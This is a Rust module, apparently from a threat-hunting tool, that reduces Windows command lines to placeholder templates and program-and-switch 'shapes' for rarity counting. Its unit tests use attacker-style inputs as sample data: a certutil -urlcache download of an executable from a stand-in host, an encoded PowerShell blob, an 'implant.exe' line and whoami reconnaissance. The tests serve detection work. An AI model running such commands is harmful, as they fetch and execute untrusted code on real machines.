//! Command-line templates: the volatile parts of a command line replaced by placeholders, so
//! that `DllHost.exe /Processid:{3EB3C877-…}` run a thousand times with a thousand GUIDs counts
//! as one command, and its *shape* (program and switches) as coarser still.
//!
//! An analyst reads past these parts without thinking; a rarity count must too, or every line
//! with a GUID, PID, temp name or user profile would be "never seen". The rules, applied in one
//! pass over the lower-cased line:
//!
//! | in the line | becomes |
//! |---|---|
//! | a GUID, with or without braces | `<guid>` |
//! | `0x…` hex numbers; runs of 16+ hex digits; hex words of 8+ with digits and letters | `<hex>` |
//! | base64-looking runs of 40+ characters (`powershell -enc …`) | `<b64>` |
//! | digit runs (PIDs, ports, versions, dates, IP octets) | `<n>` |
//! | the folder after `\users\` (but `public` and `default` stay: staging folders matter) | `<user>` |
//! | file names ending `.tmp` | `<tmp>.tmp` |
//! | runs of white space | one space |
//!
//! The **shape** ([`shape`]) keeps only the program's file name and the switches (`-k`, `/c`,
//! `--type=renderer`), every other argument collapsing to `<a>`: `svchost.exe -k netsvcs -p -s
//! Schedule` and `… -s BITS` share the shape `svchost.exe -k <a> -p -s <a>`, so a service host
//! starting yet another service is not news, while `svchost.exe` with no `-k` is.

/// The template of a command line (see the module documentation).
pub fn template(command_line: &str) -> String {
    let lower = command_line.to_lowercase();
    let bytes = lower.as_bytes();
    let mut out = String::with_capacity(lower.len());
    let mut i = 0;
    let mut last_space = true;
    while i < bytes.len() {
        let b = bytes[i];
        if b.is_ascii_whitespace() {
            if !last_space {
                out.push(' ');
                last_space = true;
            }
            i += 1;
            continue;
        }
        last_space = false;
        // Placeholders are recognised only at the start of a word, so `system32` stays a word
        // with a number in it rather than a hex blob.
        let at_word_start = i == 0 || !is_word_byte(bytes[i - 1]);
        if at_word_start {
            if let Some(len) = guid_at(&bytes[i..]) {
                out.push_str("<guid>");
                i += len;
                continue;
            }
            // Hex before base64: a 40-digit SHA-1 is a hash, not an encoded script.
            if let Some(len) = hex_at(&bytes[i..]) {
                out.push_str("<hex>");
                i += len;
                continue;
            }
            if let Some(len) = base64_at(&bytes[i..]) {
                out.push_str("<b64>");
                i += len;
                continue;
            }
            if let Some(len) = tmp_name_at(&bytes[i..]) {
                out.push_str("<tmp>.tmp");
                i += len;
                continue;
            }
        }
        if b.is_ascii_digit() {
            let len = bytes[i..].iter().take_while(|c| c.is_ascii_digit()).count();
            out.push_str("<n>");
            i += len;
            continue;
        }
        if b == b'\\' && bytes[i..].starts_with(b"\\users\\") {
            out.push_str("\\users\\");
            i += "\\users\\".len();
            let name_len = bytes[i..]
                .iter()
                .take_while(|&&c| {
                    !matches!(c, b'\\' | b'/' | b'"' | b'\'') && !c.is_ascii_whitespace()
                })
                .count();
            let name = &lower[i..i + name_len];
            if name_len > 0 && name != "public" && name != "default" {
                out.push_str("<user>");
            } else {
                out.push_str(name);
            }
            i += name_len;
            continue;
        }
        // Copy one UTF-8 character.
        let ch_len = utf8_len(b);
        let end = (i + ch_len).min(bytes.len());
        out.push_str(lower.get(i..end).unwrap_or(""));
        i = end.max(i + 1);
    }
    let trimmed = out.trim_end();
    trimmed.to_string()
}

fn utf8_len(first: u8) -> usize {
    match first {
        0x00..=0x7f => 1,
        0xc0..=0xdf => 2,
        0xe0..=0xef => 3,
        0xf0..=0xf7 => 4,
        _ => 1,
    }
}

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

fn ends_word(rest: &[u8], len: usize) -> bool {
    rest.get(len).is_none_or(|&c| !is_word_byte(c))
}

/// Length of a GUID (`8-4-4-4-12` hex digits, optionally in braces) at the start of `s`.
fn guid_at(s: &[u8]) -> Option<usize> {
    let braced = s.first() == Some(&b'{');
    let start = usize::from(braced);
    let mut at = start;
    for (k, &group) in [8usize, 4, 4, 4, 12].iter().enumerate() {
        if k > 0 {
            if s.get(at) != Some(&b'-') {
                return None;
            }
            at += 1;
        }
        let run = s.get(at..at + group)?;
        if !run.iter().all(u8::is_ascii_hexdigit) {
            return None;
        }
        at += group;
    }
    if braced {
        if s.get(at) != Some(&b'}') {
            return None;
        }
        at += 1;
    }
    ends_word(s, at).then_some(at)
}

/// Length of a hex number at the start of `s`: `0x` + hex digits, 16+ hex digits, or a hex word
/// of 8+ characters mixing digits and the letters a-f (hashes, handles, ids).
fn hex_at(s: &[u8]) -> Option<usize> {
    if s.starts_with(b"0x") {
        let len = s[2..].iter().take_while(|c| c.is_ascii_hexdigit()).count();
        if len > 0 && ends_word(s, 2 + len) {
            return Some(2 + len);
        }
        return None;
    }
    let len = s.iter().take_while(|c| c.is_ascii_hexdigit()).count();
    if !ends_word(s, len) {
        return None;
    }
    let run = &s[..len];
    let digits = run.iter().any(u8::is_ascii_digit);
    let letters = run.iter().any(u8::is_ascii_alphabetic);
    if len >= 16 || (len >= 8 && digits && letters) {
        Some(len)
    } else {
        None
    }
}

/// Length of a base64-looking run at the start of `s`: 40+ characters of the base64 alphabet
/// with letters and digits (the lower-cased form: case was folded before we get here).
fn base64_at(s: &[u8]) -> Option<usize> {
    let len = s
        .iter()
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'+' || c == b'/' || c == b'=')
        .count();
    if len < 40 {
        return None;
    }
    let run = &s[..len];
    // A long path of words (`/a/b/c`) is not base64: require few slashes and both classes.
    let slashes = run.iter().filter(|&&c| c == b'/').count();
    let digits = run.iter().any(u8::is_ascii_digit);
    let letters = run.iter().any(u8::is_ascii_alphabetic);
    (slashes * 8 < len && digits && letters).then_some(len)
}

/// Length of a `name.tmp` file name at the start of `s`.
fn tmp_name_at(s: &[u8]) -> Option<usize> {
    let len = s
        .iter()
        .take_while(|&&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'~' | b'$'))
        .count();
    if len > 0 && s[len..].starts_with(b".tmp") && ends_word(s, len + 4) {
        Some(len + 4)
    } else {
        None
    }
}

/// The program token of a template: the quoted first string, or everything up to the first
/// space.
pub fn program_token(template: &str) -> (&str, &str) {
    let t = template.trim_start();
    if let Some(rest) = t.strip_prefix('"') {
        match rest.find('"') {
            Some(end) => (&rest[..end], rest[end + 1..].trim_start()),
            None => (rest, ""),
        }
    } else {
        match t.find(' ') {
            Some(end) => (&t[..end], t[end + 1..].trim_start()),
            None => (t, ""),
        }
    }
}

/// Whether a token is a switch: `-x`, `--name=value`, `/c`, `/processid:<guid>` (but not a
/// path such as `/usr/bin/x` or `/c:\x`).
pub fn is_switch(token: &str) -> bool {
    let mut chars = token.chars();
    match chars.next() {
        Some('-') => token.len() > 1 && token.len() <= 40,
        Some('/') => {
            let rest = &token[1..];
            !rest.is_empty() && token.len() <= 40 && !rest.contains(['/', '\\'])
        }
        _ => false,
    }
}

/// The shape of a template: the program's file name and the switches, other arguments as
/// `<a>` (consecutive ones collapsed).
pub fn shape(template: &str) -> String {
    let (program, args) = program_token(template);
    let mut out = String::with_capacity(template.len().min(128));
    out.push_str(oddhunt_core::file_name(program));
    let mut last_arg = false;
    for token in args.split(' ').filter(|t| !t.is_empty()) {
        if is_switch(token) {
            out.push(' ');
            out.push_str(token);
            last_arg = false;
        } else if !last_arg {
            out.push_str(" <a>");
            last_arg = true;
        }
    }
    out
}

/// The argument words of a template for explanations: split at white space, quotes, `=`, `,`,
/// `;`, parentheses; the program token left out; duplicates removed; at most 64.
pub fn words(template: &str) -> Vec<&str> {
    let (_, args) = program_token(template);
    let mut out: Vec<&str> = Vec::new();
    for w in args.split(|c: char| {
        c.is_whitespace() || matches!(c, '"' | '\'' | '=' | ',' | ';' | '(' | ')' | '|')
    }) {
        if !w.is_empty() && !out.contains(&w) {
            out.push(w);
            if out.len() == 64 {
                break;
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn volatile_tokens_become_placeholders() {
        assert_eq!(
            template(
                r"C:\Windows\system32\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}"
            ),
            r"c:\windows\system<n>\dllhost.exe /processid:<guid>"
        );
        assert_eq!(
            template(r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
            r"\??\c:\windows\system<n>\conhost.exe <hex> -forcev<n>"
        );
        assert_eq!(
            template(r#""C:\Users\bob\AppData\Local\Temp\is-01DD7.tmp\setup.exe"  /SL5"#),
            r#""c:\users\<user>\appdata\local\temp\<tmp>.tmp\setup.exe" /sl<n>"#
        );
        assert_eq!(
            template(r"C:\Users\Public\x.exe"),
            r"c:\users\public\x.exe",
            "Users\\Public is a place, not a person"
        );
        assert_eq!(
            template("powershell -enc SQBmACgAJABQAFMAVgBFAHIAUwBpAE8AbgBUAGEAYgBsAEUALgBQAFMAVgBFAFIAcwBJAE8AbgAuAE0AYQBqAG8AcgAgAC0ARwBFACAAMwApAHsA"),
            "powershell -enc <b64>"
        );
        assert_eq!(
            template("ping -n 1 -w 100 192.168.1.254"),
            "ping -n <n> -w <n> <n>.<n>.<n>.<n>"
        );
        assert_eq!(
            template("implant.exe  81ed03caf6901e444c72ac67d192fb9c"),
            "implant.exe <hex>"
        );
        assert_eq!(template("  cmd   /c  dir  "), "cmd /c dir");
        assert_eq!(template(""), "");
        // Non-ASCII text passes through intact.
        assert_eq!(
            template("odbcconf.exe /f my.rspáá"),
            "odbcconf.exe /f my.rspáá"
        );
        // Words that merely contain hex letters stay words.
        assert_eq!(template("cscript deadbeef.vbs"), "cscript deadbeef.vbs");
    }

    #[test]
    fn shapes_keep_program_and_switches() {
        let a = template(r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule");
        let b = template(r"C:\Windows\system32\svchost.exe -k LocalService -p -s BITS");
        assert_eq!(shape(&a), "svchost.exe -k <a> -p -s <a>");
        assert_eq!(shape(&a), shape(&b));
        assert_eq!(
            shape(&template(
                r#""C:\Program Files\App\app.exe" --type=renderer "x y" z"#
            )),
            "app.exe --type=renderer <a>"
        );
        assert_eq!(shape("whoami"), "whoami");
        assert_eq!(shape("cmd /c whoami /all"), "cmd /c <a> /all");
        assert!(!is_switch("/usr/bin/env"));
        assert!(is_switch("/c"));
        assert!(!is_switch("-"));
    }

    #[test]
    fn words_for_explanations() {
        assert_eq!(
            words(r#"certutil -urlcache -split -f "http://x/a.exe" a.exe"#),
            vec!["-urlcache", "-split", "-f", "http://x/a.exe", "a.exe"]
        );
        assert!(words("whoami").is_empty());
    }
}
